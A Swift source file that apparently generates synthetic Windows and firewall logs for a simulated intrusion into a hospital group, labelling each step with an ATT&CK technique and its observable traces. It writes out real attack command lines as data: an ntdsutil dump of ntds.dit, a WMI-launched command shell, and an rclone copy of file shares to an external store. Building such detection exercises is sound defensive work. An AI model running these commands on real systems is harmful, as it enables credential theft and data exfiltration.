import Vocabulary

/// The second hour: over the shared directory to another member, and out with the data.
extension AttackScript {
    mutating func reachDirectory(_ writer: inout LogWriter) {
        let controller = bridge.server("AD1")
        let source = origin.server("APP1")
        let time = step(
            74, bridge, controller, backupService, "T1047",
            LocalizedText(
                "Commande par WMI sur le contrôleur de domaine du groupement",
                en: "Command run over WMI on the group’s domain controller"),
            sees: LocalizedText(
                "Sysmon 1\u{A0}: WmiPrvSE lance un interpréteur de commandes",
                en: "Sysmon 1: WmiPrvSE starts a command shell"),
            &writer)
        writer.logon(
            backupService, on: controller, .network, from: source.address, process: "NTLM",
            session: "0x77aa10", at: time - 300)
        writer.specialPrivileges(backupService, on: controller, session: "0x77aa10", at: time - 290)
        run(
            AttackScript.shell, #"cmd.exe /Q /c quser 1> \\127.0.0.1\ADMIN$\__1770 2>&1"#, by: backupService,
            parent: #"C:\Windows\System32\wbem\WmiPrvSE.exe"#, on: controller, at: time, &writer)
    }

    mutating func stealDirectory(_ writer: inout LogWriter) {
        let controller = bridge.server("AD1")
        let time = step(
            82, bridge, controller, backupService, "T1003.003",
            LocalizedText("Copie de la base de l’annuaire", en: "Copy of the directory’s database"),
            sees: LocalizedText(
                "Création de processus\u{A0}: ntdsutil «\u{A0}ifm\u{A0}», fichier ntds.dit hors de son dossier",
                en: "Process creation: ntdsutil “ifm”, file ntds.dit outside its folder"), &writer)
        let tool = #"C:\Windows\System32\ntdsutil.exe"#
        run(
            tool, #"ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\ifm" q q"#, by: backupService,
            parent: #"C:\Windows\System32\wbem\WmiPrvSE.exe"#, on: controller, at: time, &writer)
        writer.fileCreated(
            #"C:\ProgramData\ifm\Active Directory\ntds.dit"#, by: tool, account: backupService.qualified,
            on: controller,
            at: time + 14_000)
    }

    mutating func plantAccount(_ writer: inout LogWriter) {
        let controller = bridge.server("AD1")
        let time = step(
            95, bridge, controller, backupService, "T1136.002",
            LocalizedText(
                "Création d’un compte et ajout aux administrateurs du domaine",
                en: "Account created and added to the domain administrators"),
            sees: LocalizedText(
                "Sécurité 4720 puis 4728 sur un groupe à privilèges, la nuit",
                en: "Security 4720, then 4728 on a privileged group, at night"), &writer)
        writer.accountCreated(planted.name, by: backupService, on: controller, at: time)
        writer.addedToGroup(
            planted.name, group: "Admins du domaine", by: backupService, on: controller, at: time + 6_100)
    }

    mutating func crossToTarget(_ writer: inout LogWriter) {
        let host = target.server("ADM1")
        let time = step(
            104, target, host, backupService, "T1021.001",
            LocalizedText(
                "Passage à un autre établissement du groupement par bureau à distance",
                en: "Crossing to another member of the group by remote desktop"),
            sees: LocalizedText(
                "Sécurité 4624, type 10, avec un compte de service",
                en: "Security 4624, type 10, with a service account"),
            &writer)
        writer.logon(
            backupService, on: host, .remoteInteractive, from: bridge.server("AD1").address,
            process: "Negotiate",
            session: "0x91c220", at: time)
        run(
            #"C:\Windows\System32\whoami.exe"#, "whoami /groups", by: backupService, on: host,
            at: time + 44_000, &writer)
    }

    mutating func takeTargetServers(_ writer: inout LogWriter) {
        let host = target.server("FIC1")
        let time = step(
            110, target, host, planted, "T1021.002",
            LocalizedText(
                "PsExec vers le serveur de fichiers et l’archive d’images",
                en: "PsExec to the file server and the image archive"),
            sees: LocalizedText(
                "Système 7045 et Sécurité 5145 sur deux serveurs en deux minutes",
                en: "System 7045 and Security 5145 on two servers within two minutes"), &writer)
        usePsExec(on: host, from: target.server("ADM1").address, by: planted, at: time, &writer)
        usePsExec(
            on: target.server("PACS1"), from: target.server("ADM1").address, by: planted, at: time + 96_000,
            &writer)
    }

    mutating func sendDataOut(_ writer: inout LogWriter) {
        let host = target.server("FIC1")
        let time = step(
            118, target, host, planted, "T1567.002",
            LocalizedText(
                "Vol de données\u{A0}: copie des partages vers un stockage en ligne",
                en: "Data theft: shares copied to an online store"),
            sees: LocalizedText(
                "Sysmon 1\u{A0}: rclone\u{A0}; pare-feu\u{A0}: plusieurs gigaoctets sortants la nuit",
                en: "Sysmon 1: rclone; firewall: several gigabytes leaving at night"), &writer)
        let tool = #"C:\ProgramData\rclone.exe"#
        writer.fileCreated(
            tool, by: AttackScript.shell, account: planted.qualified, on: host, at: time - 20_000)
        run(
            tool,
            #"rclone.exe copy D:\Partages depot:ght --config C:\ProgramData\r.conf --transfers 12 --max-age 3y"#,
            by: planted, on: host, at: time, &writer)
        writer.lookedUp(
            AttackScript.exitDomain, result: AttackScript.exitAddress, by: tool, account: planted.qualified,
            on: host,
            at: time + 600)
        writer.nameQuery(
            AttackScript.exitDomain, from: host.address, to: target.appliance("dns1"), at: time + 610)
        writer.connected(
            tool, by: planted.qualified, from: host, to: AttackScript.exitAddress, port: 443,
            name: AttackScript.exitDomain,
            at: time + 900)
        for part in 0..<6 {
            writer.traffic(
                target.appliance("fw1"), offsetHours: offsetHours, from: host.address, port: 52_000 + part,
                to: AttackScript.exitAddress, port: 443, service: "HTTPS",
                sent: 1_900_000_000 + generator.below(900_000_000), received: 14_000_000,
                at: time + Int64(part + 1) * 400_000)
        }
    }
}
